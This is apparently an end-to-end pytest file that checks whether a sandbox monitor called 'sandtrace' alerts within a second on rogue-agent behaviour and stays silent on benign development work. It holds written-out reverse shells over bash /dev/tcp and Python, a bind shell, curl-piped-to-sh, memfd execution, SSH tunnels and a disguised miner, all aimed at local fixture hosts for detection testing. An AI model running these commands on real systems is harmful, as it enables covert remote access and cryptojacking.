"""Incident replay: what a rogue agent does, done for real in a sandbox, must raise the
expected alert within a second; benign development work in the same sandbox raises none.

Each scenario runs `sandtrace run` as a real process (embedded detection, built-in rule
pack); its command runs in the sandbox's own network namespace, and the test hosts outside
(sshd, a mining pool, an HTTP host) are real servers started by the fixtures.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import time
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import NetNS
from tests.e2e.report import LATENCIES
from tests.e2e.runs import Run, json_lines, record
from tests.e2e.testhosts import MINER_SCRIPT, PYTHON, HttpHost, MiningPool, SshServer

# what the other incident-style tests import from here
__all__ = ["Run", "_json_lines", "expect", "sandtrace_run"]


def sandtrace_run(net: NetNS, script: str, tmp: Path, *extra: str, background: Any = None) -> Run:
    """`sandtrace run --json` (and `extra`) of `script` run by sh inside `net`."""
    return record(
        tmp, "--json", *extra, "--", *net.in_inside("sh", "-c", script), background=background
    )


_json_lines = json_lines


def expect(run: Run, scenario: str, theme: str) -> list[dict[str, Any]]:
    """The alerts of `theme`; each raised within a second of its triggering syscall."""
    assert run.returncode == 0, run.stderr
    found = run.alerts_of(theme)
    assert found, f"{scenario}: no {theme} alert; got {sorted(run.themes())}\n{run.stderr}"
    for alert in found:
        if alert["repeat"]:
            continue  # a summary of folded repeats, raised when its window closes
        lag = (alert["raised_ns"] - min(e["time_ns"] for e in alert["events"])) / 1e9
        assert lag < 1.0, f"{scenario}: {alert['title']} came {lag:.3f} s after the syscall"
        LATENCIES.setdefault(scenario, []).append(lag)
    return found


# -- hostile -----------------------------------------------------------------------------------


def test_miner_with_stratum_url_logs_in_to_the_pool(
    testnet: NetNS, mining_pool: MiningPool, work: Path
) -> None:
    script = (
        f"{PYTHON} {MINER_SCRIPT} -o {mining_pool.url} -u WALLET-FLAGS -p x "
        "--donate-level=0 --cpu-priority=0"
    )
    run = sandtrace_run(testnet, script, work)
    alerts = expect(run, "miner, stratum flags", "miners")
    assert "WALLET-FLAGS" in mining_pool.wallets()
    assert any(a["process"]["pid"] in run.pids("python3.11") for a in alerts)


def test_renamed_miner_in_hidden_tmp_dir_configured_by_file(
    testnet: NetNS, mining_pool: MiningPool, work: Path
) -> None:
    hidden = Path("/tmp") / f".cache-{secrets.token_hex(3)}"
    hidden.mkdir()
    try:
        shutil.copy(os.path.realpath(PYTHON), hidden / "kworker")  # a renamed binary
        shutil.copy(MINER_SCRIPT, hidden / "m.py")
        (hidden / "config.json").write_text(
            json.dumps({"pools": [{"url": mining_pool.url, "user": "WALLET-FILE", "pass": "x"}]})
        )
        run = sandtrace_run(testnet, f"cd {hidden} && ./kworker m.py -c config.json", work)
    finally:
        shutil.rmtree(hidden)
    alerts = expect(run, "renamed miner, config file", "miners")
    assert "WALLET-FILE" in mining_pool.wallets()
    assert {a["process"]["exe"] for a in alerts} == {str(hidden / "kworker")}


def test_reverse_ssh_tunnel_is_established_and_alerts(
    testnet: NetNS, sshd: SshServer, work: Path
) -> None:
    ssh = " ".join(sshd.client_argv())
    script = f"{ssh} -N -f -R 18080:127.0.0.1:8000 {sshd.destination} && sleep 3"
    seen: list[bool] = []

    def tunnel_up() -> None:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if any(port == 18080 for _, port in testnet.listening_outside()):
                seen.append(True)
                return
            time.sleep(0.05)

    run = sandtrace_run(testnet, script, work, background=tunnel_up)
    assert seen == [True], "the reverse tunnel was never listening on the ssh server"
    expect(run, "reverse ssh tunnel", "tunnels")
    conns = [e for e in run.events if e["kind"] == "connect" and e["dport"] == 22]
    assert conns and conns[0]["daddr"] == sshd.addr and conns[0]["outcome"] == "success"


def test_local_forward_binds_a_port_and_alerts(testnet: NetNS, sshd: SshServer, work: Path) -> None:
    ssh = " ".join(sshd.client_argv())
    run = sandtrace_run(
        testnet, f"{ssh} -N -f -L 127.0.0.1:9000:127.0.0.1:22 {sshd.destination} && sleep 1", work
    )
    expect(run, "ssh local forward", "tunnels")
    listens = [e for e in run.events if e["kind"] == "listen" and e["port"] == 9000]
    assert listens and listens[0]["addr"] == "127.0.0.1"


def test_reverse_shell_over_bash_dev_tcp(testnet: NetNS, work: Path) -> None:
    catcher = testnet.shell_catcher(4444, "exit", hangup_s=2)
    try:
        # The catcher says exit and hangs up; the shell's own status does not matter.
        script = f"bash -c 'bash -i >& /dev/tcp/{testnet.outside_addr}/4444 0>&1'; true"
        run = sandtrace_run(testnet, script, work)
    finally:
        catcher.kill()
        catcher.wait()
    expect(run, "reverse shell, bash /dev/tcp", "reverse_shells")


def test_reverse_shell_from_python_one_liner(testnet: NetNS, work: Path) -> None:
    catcher = testnet.shell_catcher(4445, "exit", hangup_s=2)
    one_liner = (
        "import socket,subprocess,os;s=socket.socket();"
        f's.connect(("{testnet.outside_addr}",4445));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
    )
    try:
        run = sandtrace_run(testnet, f"{PYTHON} -c '{one_liner}'; true", work)
    finally:
        catcher.kill()
        catcher.wait()
    expect(run, "reverse shell, python", "reverse_shells")


def test_bind_shell_on_all_addresses(testnet: NetNS, work: Path) -> None:
    code = (
        'import socket;s=socket.socket();s.bind(("0.0.0.0",4446));s.listen(1);'
        "s.settimeout(0.5)\ntry: s.accept()\nexcept OSError: pass"
    )
    run = sandtrace_run(testnet, f"{PYTHON} -c '{code}'", work)
    alerts = expect(run, "bind shell", "listeners")
    assert any(e["kind"] == "listen" and e["port"] == 4446 for e in run.events)
    assert alerts[0]["events"][0]["addr"] == "0.0.0.0"


def test_script_downloaded_and_piped_into_sh(
    testnet: NetNS, http_host: HttpHost, work: Path
) -> None:
    url = http_host.put("install.sh", "echo installed\n")
    run = sandtrace_run(testnet, f"curl -fsS {url} | sh", work)
    expect(run, "curl | sh", "payloads")
    assert any(r["path"] == "/install.sh" for r in http_host.requests())


def test_binary_copied_to_dev_shm_and_run(testnet: NetNS, work: Path) -> None:
    name = f"/dev/shm/st-{secrets.token_hex(3)}"
    run = sandtrace_run(testnet, f"cp /usr/bin/true {name} && {name}; rm -f {name}", work)
    alerts = expect(run, "exec from /dev/shm", "payloads")
    assert any(a["process"]["exe"] == name for a in alerts)


def test_memfd_execution(testnet: NetNS, work: Path) -> None:
    code = (
        'import os;fd=os.memfd_create("x");os.write(fd,open("/usr/bin/true","rb").read());'
        'os.execve(fd,["x"],{})'
    )
    run = sandtrace_run(testnet, f"{PYTHON} -c '{code}'", work)
    alerts = expect(run, "memfd exec", "payloads")
    assert any(a["process"]["exe"] == "/memfd:x" for a in alerts)


def test_probing_burst_across_the_outside_network(testnet: NetNS, work: Path) -> None:
    targets = ",".join(f'"{a}"' for a in testnet.probe_addrs)
    code = (
        "import socket\nfor h in [" + targets + "]:\n"
        " for p in (22, 80, 443):\n"
        "  s=socket.socket();s.settimeout(0.5);s.connect_ex((h,p));s.close()"
    )
    run = sandtrace_run(testnet, f"{PYTHON} -c '{code}'", work)
    expect(run, "probing burst", "probing")
    refused = [
        e for e in run.events if e["kind"] == "connect" and e["errno_name"] == "ECONNREFUSED"
    ]
    assert len(refused) == 30


def test_tunnelling_tool_client_invocation(testnet: NetNS, work: Path) -> None:
    # The real chisel is not installed here; a binary of that name with its client argv is
    # what an exec-level rule sees either way.
    tool = work / "chisel"
    shutil.copy("/usr/bin/true", tool)
    run = sandtrace_run(testnet, f"{tool} client {testnet.outside_addr}:8080 R:socks", work)
    expect(run, "chisel client", "tunnel_tools")


def test_connect_outside_the_egress_allow_list(testnet: NetNS, sshd: SshServer, work: Path) -> None:
    code = f'import socket;socket.create_connection(("{sshd.alt_addr}",{sshd.alt_port}),2).close()'
    run = sandtrace_run(testnet, f"{PYTHON} -c '{code}'", work, "--egress-allow", "198.51.100.0/24")
    alerts = [a for a in run.alerts if a["rule_id"] == "sandtrace-egress-allow-list"]
    assert len(alerts) == 1
    assert f"{sshd.alt_addr}:{sshd.alt_port}" in alerts[0]["description"]
    LATENCIES.setdefault("egress allow-list", []).append(
        (alerts[0]["raised_ns"] - alerts[0]["events"][0]["time_ns"]) / 1e9
    )


# -- benign ------------------------------------------------------------------------------------

BENIGN = {
    "venv and a project's tests": (
        "mkdir -p proj/tests && printf 'def add(a, b):\\n    return a + b\\n' > proj/calc.py && "
        "printf 'import unittest\\nfrom calc import add\\n"
        "class T(unittest.TestCase):\\n    def test(self):\\n"
        "        self.assertEqual(add(1, 2), 3)\\n'"
        " > proj/tests/test_calc.py && "
        f"{PYTHON} -m venv --without-pip venv && cd proj && ../venv/bin/python -m unittest "
        "discover -s tests 2>&1"
    ),
    "git on a local repository": (
        "git init -q repo && cd repo && git config user.email a@example.org && "
        "git config user.name a && echo x > f && git add f && git commit -qm one && "
        "cd .. && git clone -q repo clone && git -C clone log --oneline"
    ),
    "compile and run C in the working directory": (
        "printf '#include <stdio.h>\\nint main(void){puts(\"hi\");return 0;}\\n' > hello.c && "
        "cc -o hello hello.c && ./hello"
    ),
    "dev server on 127.0.0.1 and a client": (
        f"{PYTHON} -m http.server --bind 127.0.0.1 8765 >/dev/null 2>&1 & "
        "for i in $(seq 50); do curl -fsS http://127.0.0.1:8765/ >/dev/null && break; "
        "sleep 0.1; done; kill $!"
    ),
    "reading and writing files": (
        "for i in $(seq 20); do echo line $i >> notes.txt; done && sort -r notes.txt > s.txt "
        "&& sed -n 1p s.txt && cat /etc/os-release >/dev/null && cp s.txt t.txt && rm t.txt"
    ),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_work_raises_no_alert(testnet: NetNS, work: Path, name: str) -> None:
    run = sandtrace_run(testnet, BENIGN[name], work, "--egress-allow", "0.0.0.0/0")
    assert run.returncode == 0, run.stderr
    assert [e for e in run.events if e["kind"] == "exec"], "the workload did not run"
    assert run.alerts == [], [f"{a['title']}: {a['events'][0].get('argv')}" for a in run.alerts]
